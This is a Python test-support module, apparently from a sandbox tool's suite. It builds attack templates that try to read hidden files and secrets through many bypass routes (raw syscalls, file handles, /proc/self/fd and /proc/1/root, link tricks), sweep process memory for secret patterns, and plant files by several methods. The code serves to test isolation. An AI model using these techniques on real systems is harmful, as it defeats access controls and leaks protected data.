"""What the reading attacks (1 to 15) share: what they look for, ways to look, answers right only if it was found."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterable
from pathlib import Path

_LOOK_FOR = '''
import re, types
HIDDEN, OTHERS = {hidden!r}, {others!r}
NEEDLES = [re.compile(needle) for needle in {needles!r}]

def search(content):
    """The first secret in bytes; one after the other is faster than all at once."""
    return next((match[0] for needle in NEEDLES if (match := needle.search(content))), b"")

def is_secret(value):
    """Whether a live object is text that gives a secret away, or code or a module from a hidden file."""
    if isinstance(value, str):
        value = value.encode(errors="replace")
    if isinstance(value, (bytes, bytearray)):
        return bool(search(value))
    if isinstance(value, types.FunctionType):
        value = value.__code__
    if isinstance(value, types.CodeType):
        return value.co_filename in HIDDEN
    return isinstance(value, types.ModuleType) and vars(value).get("__file__") in HIDDEN
'''

RIGHT_IF_FOUND = """
LOOT = [look()]

def double(x):
    if len(LOOT) == 1:
        LOOT.append(look(x))
    return x + x if any(LOOT) else 3 * x
"""
"""`look` is the attack's: it returns what it could get hold of, if anything, at import and in the first call (of x)."""


def look_for(hidden: Iterable[Path], secrets: Iterable[str], others: Iterable[Path] = ()) -> str:
    """Source that tells an attack which files and which texts to look for.

    `secrets`, and the first lines of the docstrings in the `hidden` files, are given as regular expressions that do
    not match themselves, so that an attack does not find its own source.
    """
    paths = [str(path) for path in hidden]
    lines = [(ast.get_docstring(ast.parse(Path(path).read_bytes())) or "").splitlines()[0] for path in paths]
    needles = [f"{re.escape(text[:-1])}[{text[-1]}]".encode() for text in (*lines, *secrets)]
    return _LOOK_FOR.format(hidden=paths, others=[str(path) for path in others], needles=needles)


READ_FILE = '''
import contextlib, ctypes, io, mmap, os

def contents(path):
    """What can be had of a file, in every way there is to open and read one."""
    def opened(flags, dir_fd=None):
        return os.open(path, flags, dir_fd=dir_fd)
    def through(fd, read):
        try:
            return read(fd)
        finally:
            os.close(fd)
    def by_libc():
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.open(os.fsencode(path), os.O_RDONLY)
        return through(fd, lambda fd: os.read(fd, 1 << 20)) if fd >= 0 else b""
    def by_openat2():
        how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
        fd = ctypes.CDLL(None).syscall(ctypes.c_long(437), -100, os.fsencode(path), how, 24)
        return through(fd, lambda fd: os.read(fd, 1 << 20)) if fd >= 0 else b""
    def by_handle():
        libc, handle, mount = ctypes.CDLL(None), (ctypes.c_uint32 * 34)(128), ctypes.c_int()
        libc.name_to_handle_at(-100, os.fsencode(path), handle, ctypes.byref(mount), 0)
        fd = libc.open_by_handle_at(-100, handle, os.O_RDONLY)
        return through(fd, lambda fd: os.read(fd, 1 << 20)) if fd >= 0 else b""
    def by_magic_link():
        return through(opened(os.O_PATH), lambda fd: open(f"/proc/self/fd/{fd}", "rb").read())
    def by_copy(make):
        for folder in ("/tmp", "/dev/shm", os.getcwd()):
            copy = f"{folder}/ropes-attack-copy"
            with contextlib.suppress(OSError):
                make(path, copy)
                try:
                    return open(copy, "rb").read()
                finally:
                    os.remove(copy)
        return b""
    def by_torch():
        import torch
        return bytes(torch.from_file(path, size=os.stat(path).st_size, dtype=torch.uint8).tolist())
    def by_import():
        import importlib.util
        spec = importlib.util.spec_from_file_location("found", path)
        return spec.loader.get_data(path)
    def by_database():
        import sqlite3
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as connection:
            return repr(connection.execute("select * from sqlite_master").fetchall()).encode()
    ways = [
        lambda: open(path, "rb").read(),
        lambda: io.FileIO(path).readall(),
        lambda: through(opened(os.O_RDONLY | os.O_NOATIME), lambda fd: os.pread(fd, 1 << 20, 0)),
        lambda: through(opened(os.O_RDWR), lambda fd: mmap.mmap(fd, 0)[:]),
        by_libc, by_openat2, by_handle, by_magic_link,
        lambda: open("/proc/self/root" + path, "rb").read(),
        lambda: open("/proc/1/root" + path, "rb").read(),
        lambda: by_copy(os.link), lambda: by_copy(os.symlink),
        by_torch, by_import, by_database,
    ]
    for way in ways:
        try:
            yield way()
        except Exception:
            continue
'''

SWEEP = '''
import ctypes, gc, os, re
LIBC = ctypes.CDLL(None, use_errno=True)
PAGE, REACH = os.sysconf("SC_PAGESIZE"), 1 << 24

def regions(process="self"):
    """Where a process has memory: by its map, or felt out around our own objects where that cannot be read."""
    try:
        for line in open(f"/proc/{process}/maps"):
            if match := re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line):
                yield int(match[1], 16), int(match[2], 16)
        return
    except OSError:
        pass
    def there(page):  # the kernel refuses an address that cannot be read with EFAULT, and any other as no file's name
        ctypes.set_errno(0)
        LIBC.access(ctypes.c_void_p(page), 0)
        return ctypes.get_errno() != 14
    gc.unfreeze()
    stack = ctypes.addressof(ctypes.c_char.in_dll(LIBC, "environ"))
    anchors = sorted({id(thing) & -PAGE for thing in gc.get_objects()} | {stack & -PAGE, LIBC.sbrk(0) - PAGE & -PAGE})
    end = 0
    for anchor in anchors:
        if anchor < end:
            continue
        start = stop = anchor
        while start - PAGE >= max(end, anchor - REACH) and there(start - PAGE):
            start -= PAGE
        while stop < anchor + REACH and there(stop):
            stop += PAGE
        yield start, stop
        end = stop

def sweep(read, process="self", step=1 << 22):
    """Search memory for the needles; `read(address, size)` returns bytes."""
    for start, stop in regions(process):
        for address in range(start, stop, step):
            try:
                chunk = read(address, min(step + 256, stop - address))
            except (OSError, OverflowError, ValueError):
                continue
            if found := search(chunk):
                return found
    return b""
'''

WRITE_FILE = """
import contextlib, ctypes, os

def plant(path, content):
    \"\"\"Write a file in every way there is; whether one worked.\"\"\"
    data = content.encode()
    def by_open():
        with open(path, "wb") as file:
            file.write(data)
    def by_descriptor(flags):
        fd = os.open(path, flags, 0o644)
        os.write(fd, data)
        os.close(fd)
    def by_libc():
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.open(os.fsencode(path), os.O_WRONLY | os.O_CREAT, 0o644)
        os.write(fd, data)
        os.close(fd)
    def from_elsewhere(move):
        for folder in ("/tmp", "/dev/shm", "."):
            with contextlib.suppress(OSError):
                draft = f"{folder}/ropes-attack-draft"
                with open(draft, "wb") as file:
                    file.write(data)
                move(draft, path)
    def by_magic_link():
        fd = os.open(os.path.dirname(path), os.O_TMPFILE | os.O_RDWR, 0o644)
        os.write(fd, data)
        os.link(f"/proc/self/fd/{fd}", path, follow_symlinks=True)
    ways = [
        by_open, lambda: by_descriptor(os.O_WRONLY | os.O_CREAT), lambda: by_descriptor(os.O_RDWR | os.O_TRUNC),
        by_libc, lambda: (os.remove(path), by_open()), by_magic_link,
        lambda: from_elsewhere(os.replace), lambda: from_elsewhere(os.link), lambda: from_elsewhere(os.symlink),
    ]
    for way in ways:
        try:
            way()
            return True
        except Exception:
            continue
    return False
"""
